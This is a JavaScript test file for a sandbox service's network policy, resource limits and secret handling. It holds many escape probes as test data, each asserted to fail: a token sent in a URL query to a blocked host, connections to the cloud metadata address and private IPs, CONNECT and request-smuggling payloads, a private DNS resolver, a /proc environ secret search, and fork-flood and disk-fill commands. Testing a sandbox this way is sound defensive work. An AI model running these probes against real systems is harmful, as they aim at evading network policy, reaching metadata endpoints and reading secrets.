/** What leaves a real sandbox: tries to get around the policy from inside, and looks for secrets in everything that was stored. */
import assert from "node:assert/strict";
import { after, before, describe, test } from "node:test";
import { assertProblem, openStack } from "./lib.mjs";
import { storedFiles } from "./stored.mjs";

const SECRET = "e2e-secret-5f1c0a77d2b94e3b8c61";
let stack;
let api;
before(async () => {
  stack = await openStack({
    vars: {
      CAISSON_SEAL_KEY: `1:${Buffer.alloc(32, 9).toString("base64url")}`,
      CAISSON_POLICIES: '{"house":{"network":{"allow":["*.house.example"]}}}',
    },
  });
  api = stack.api;
});
after(() => stack.close());

async function inside(session, command) {
  const { body } = await api.ok("POST", `/v1/sessions/${session.id}/exec`, { command, timeout_s: 30 });
  return body;
}
async function out(session, command) {
  return (await inside(session, command)).stdout.trim();
}
/** The files under the stack's directory that hold one of the texts. */
function stored(...texts) {
  const found = [];
  for (const [path, bytes] of storedFiles(stack.dir)) if (texts.some((text) => bytes.includes(text))) found.push(path);
  return found;
}
const status = "curl -s -m 10 -o /dev/null -w '%{http_code}'";

describe("the policy, from inside a sandbox", () => {
  let session;
  before(async () => {
    session = await api.session({
      agent: "shell",
      policy: { network: { allow: ["api.anthropic.com:443", "rebound.example"], deny: ["*.evil.example"] } },
    });
  });
  after(() => api.ok("DELETE", `/v1/sessions/${session.id}`));

  test("an allowed host is reached, over HTTPS with the system's own trust", async () => {
    assert.equal(
      await out(session, `${status} https://api.anthropic.com/v1/models`),
      await out(session, `${status} http://model.caisson.internal/v1/models`),
    );
    const { body } = await api.ok("GET", `/v1/sessions/${session.id}/egress`);
    assert.ok(
      body.egress.some((e) => e.host === "api.anthropic.com" && e.verdict === "allow" && e.rule === "network.allow[0]"),
      JSON.stringify(body),
    );
  });

  test("a denial says which rule it was and how to ask for access", async () => {
    // The whole query stands nowhere but in the URL.
    const { stdout } = await inside(session, `curl -s -i "http://other.example/a?token=$(printf hidden-%s 5b1e0c)"`);
    assert.match(stdout, /^HTTP\/1\.1 403/);
    assert.match(stdout, /x-caisson-denied: network\.default/i);
    assert.match(stdout, /network\.allow of the session's policy/);
    const { bytes } = await api.ok("GET", `/v1/sessions/${session.id}/egress`);
    assert.ok(!bytes.toString().includes("hidden"), "the log has no query");
    const archive = (await api.ok("GET", `/v1/sessions/${session.id}/egress/archive`)).bytes.toString();
    const entries = archive.trimEnd().split("\n").map(JSON.parse);
    assert.deepEqual(
      entries.map(({ id }) => id),
      entries.map((_, i) => i + 1),
    );
    assert.equal(entries.at(-1).host, "other.example");
  });

  test("there is no way around it", async () => {
    const python = (code) => `python3 - <<'PY'\nimport socket, ssl\n${code}\nPY`;
    const connect = (address, port) =>
      python(`
try:
    s = socket.create_connection((${JSON.stringify(address)}, ${port}), timeout=5)
    s.sendall(b"GET / HTTP/1.1\\r\\nHost: ${address}\\r\\nConnection: close\\r\\n\\r\\n")
    print(s.recv(100).split(b"\\r\\n")[0].decode())
except OSError as error:
    print("refused", error.errno)`);
    const probes = {
      "proxy variables unset": [
        `env -u http_proxy -u https_proxy -u HTTP_PROXY -u HTTPS_PROXY ${status} https://other.example/`,
        /^403$/,
      ],
      "a direct address": [connect("93.184.216.34", 80), /403|refused/],
      "another port": [connect("93.184.216.34", 8443), /403|refused/],
      "the metadata address": [connect("169.254.169.254", 80), /403|refused/],
      "a private address": [connect("10.0.0.1", 80), /403|refused/],
      IPv6: [connect("2606:4700::1111", 80), /403|refused/],
      "a v4-mapped address": [connect("::ffff:169.254.169.254", 80), /40[03]|refused/],
      "the engine on the host's loopback": [connect("127.0.0.1", stack.engine.port), /refused/],
      "the Worker on the host's loopback": [connect("127.0.0.1", stack.port), /refused/],
      "a numeric spelling": [`${status} http://0xa9fea9fe/`, /^403$/],
      "CONNECT to a denied host": [
        python(`
s = socket.create_connection(("other.example", 80), timeout=5)
s.sendall(b"CONNECT api.anthropic.com:443 HTTP/1.1\\r\\nHost: api.anthropic.com:443\\r\\n\\r\\n")
print(s.recv(100).split(b"\\r\\n")[0].decode())`),
        /HTTP\/1\.1 (4|501)/,
      ],
      "an absolute-form request for another host": [
        python(`
s = socket.create_connection(("rebound.example", 80), timeout=5)
s.sendall(b"GET http://other.example/ HTTP/1.1\\r\\nHost: rebound.example\\r\\nConnection: close\\r\\n\\r\\n")
print(s.recv(100).split(b"\\r\\n")[0].decode())`),
        /HTTP\/1\.1 4\d\d/,
      ],
      "another Host on an allowed connection": [
        `${status} -H 'Host: other.example' https://api.anthropic.com/v1/models`,
        /^4(03|21)$/,
      ],
      "a TLS name that is not the host's": [
        `${status} --connect-to other.example:443:api.anthropic.com:443 https://other.example/`,
        /^(403|000|421)$/,
      ],
      "a request hidden behind another": [
        python(`
s = socket.create_connection(("rebound.example", 80), timeout=5)
s.sendall(b"GET / HTTP/1.1\\r\\nHost: other.example\\r\\n\\r\\nGET / HTTP/1.1\\r\\nHost: more.evil.example\\r\\nConnection: close\\r\\n\\r\\n")
data = b""
while True:
    part = s.recv(4096)
    if not part: break
    data += part
print(sorted({line.split()[1].decode() for line in data.split(b"\\r\\n") if line.startswith(b"HTTP/1.1 ")}))`),
        /^\['4\d\d'(, '4\d\d')?\]$/,
      ],
      UDP: [
        python(`
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(3)
try:
    s.connect(("93.184.216.34", 9999)); s.send(b"x"); s.recv(10); print("answered")
except OSError as error:
    print("refused")`),
        /refused/,
      ],
      "a resolver of one's own": [
        python(`
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(3)
q = b"\\x12\\x34\\x01\\x00\\x00\\x01\\x00\\x00\\x00\\x00\\x00\\x00\\x05other\\x07example\\x00\\x00\\x01\\x00\\x01"
s.sendto(q, ("8.8.8.8", 53)); print(s.recv(512)[-4:].hex())`),
        /^c61[23]/,
      ],
    };
    for (const [what, [command, expected]] of Object.entries(probes)) {
      const { stdout, stderr } = await inside(session, command);
      assert.match(stdout.trim(), expected, `${what}: ${stdout} ${stderr}`);
    }
  });

  test("a change of the policy holds from the next request on, and is checked", async () => {
    assert.equal((await out(session, `${status} https://api.anthropic.com/v1/models`)) === "403", false);
    await api.ok("PUT", `/v1/sessions/${session.id}/policy`, { preset: "offline" });
    assert.equal(await out(session, `${status} https://api.anthropic.com/v1/models`), "403");
    assertProblem(
      await api.call("PUT", `/v1/sessions/${session.id}/policy`, { network: { allow: ["*.*"] } }),
      400,
      "invalid_policy",
      "/policy/network/allow/0",
    );
    const report = await api.ok("PUT", `/v1/sessions/${session.id}/policy`, {
      sandbox: { enabled: true, network: { allowedDomains: ["a.example"] } },
    });
    assert.deepEqual([report.body.dialect, report.body.unmapped[0].pointer], ["claude-code", "/sandbox/enabled"]);
  });
});

test("the query of a request from inside is in nothing that is stored", () => {
  assert.deepEqual(stored("hidden-5b1e0c"), []);
});

describe("limits of the policy", () => {
  test("reach the sandbox, and a change of them the run that is under way", async () => {
    // The disk is in memory at this size, and counts.
    const limits = { memory_mb: 200, processes: 64, disk_mb: 64, turns: 3 };
    const session = await api.session({ agent: "shell", policy: { preset: "offline", limits }, limits: { turns: 9 } });
    assert.deepEqual(session.limits, { turns: 3 });
    const memory = await inside(
      session,
      "python3 -c 'x = bytearray(300 << 20); print(len(x))'; python3 -c 'x = bytearray(8 << 20); print(len(x))'",
    );
    assert.equal(memory.stdout.trim(), String(8 << 20), "what is over the limit is refused, what is below is not");
    const disk = await inside(session, "head -c 200M /dev/zero > big; echo $?; stat -c %s big; rm -f big");
    const [status, size] = disk.stdout.trim().split("\n").map(Number);
    assert.ok(status !== 0 && size <= 64 << 20, disk.stdout);
    const forks = await inside(
      session,
      "python3 -c 'import os,time\nn=0\ntry:\n  while n<200:\n    if os.fork()==0: time.sleep(1); os._exit(0)\n    n+=1\nexcept OSError: pass\nprint(n)\nfor _ in range(n): os.wait()'",
    );
    assert.ok(Number(forks.stdout.trim()) < 64, forks.stdout + forks.stderr);
    const run = (await api.ok("POST", `/v1/sessions/${session.id}/runs`, { command: "sleep 60" })).body;
    await api.until(
      async () => (await api.ok("GET", `/v1/sessions/${session.id}/runs/${run.id}`)).body.state === "running",
      "the run is under way",
    );
    await api.ok("PUT", `/v1/sessions/${session.id}/policy`, { preset: "offline", limits: { wall_s: 1 } });
    const { outcome } = await api.follow(session.id, run.id);
    assert.deepEqual([outcome.type, outcome.reason], ["run.over_budget", "wall_s"]);
    await api.ok("DELETE", `/v1/sessions/${session.id}`);
  });
});

describe("presets", () => {
  test("of the operator are known by name", async () => {
    const session = await api.session({ agent: "shell", policy: { preset: "house" } });
    const { body } = await api.ok("GET", `/v1/sessions/${session.id}/policy`);
    assert.deepEqual(body.compiled.network.allow, ["*.house.example"]);
    assertProblem(
      await api.call("POST", "/v1/sessions", { agent: "shell", policy: { preset: "nobody's" } }),
      400,
      "invalid_policy",
      "/policy/preset",
    );
    await api.ok("DELETE", `/v1/sessions/${session.id}`);
  });
  test("without a policy a one-shot has no network, and a session its model", async () => {
    const { body } = await api.ok("POST", "/v1/execute", {
      language: "bash",
      code: `${status} http://model.caisson.internal/v1/models`,
    });
    assert.equal(body.stdout, "403");
  });
});

describe("secrets", () => {
  test("are in nothing that is stored or sent, and their placeholder is in the sandbox", async () => {
    const session = await api.session({
      agent: "shell",
      secrets: { API_TOKEN: SECRET },
      policy: {
        network: {
          allow: ["hooks.example"],
          inject: [{ host: "hooks.example", header: "authorization", secret: "API_TOKEN" }],
        },
      },
    });
    const { outcome } = await api.run(session.id, { command: `env; ${status} https://hooks.example/; true` });
    assert.equal(outcome.type, "run.succeeded", JSON.stringify(outcome));
    const log = (await api.ok("GET", `/v1/sessions/${session.id}/events?limit=1000`)).bytes.toString();
    assert.match(log, /API_TOKEN=caisson-secret-[0-9a-f]{32}/);
    assert.match(
      await out(session, "cat /proc/*/environ 2>/dev/null | tr '\\0' '\\n' | grep -c e2e-secret || true"),
      /^0$/,
    );
    const view = (await api.ok("GET", `/v1/sessions/${session.id}`)).bytes.toString();
    await api.ok("DELETE", `/v1/sessions/${session.id}`);
    const forms = [SECRET, Buffer.from(SECRET).toString("base64").slice(0, 32), Buffer.from(SECRET).toString("hex")];
    for (const text of [log, view]) for (const form of forms) assert.ok(!text.includes(form));
    // Every byte under the stack's directory: SQLite of the objects, R2, D1, logs, the sandbox's disk. The Worker's variables are the operator's own.
    assert.deepEqual(stored(...forms), []);
  });
});
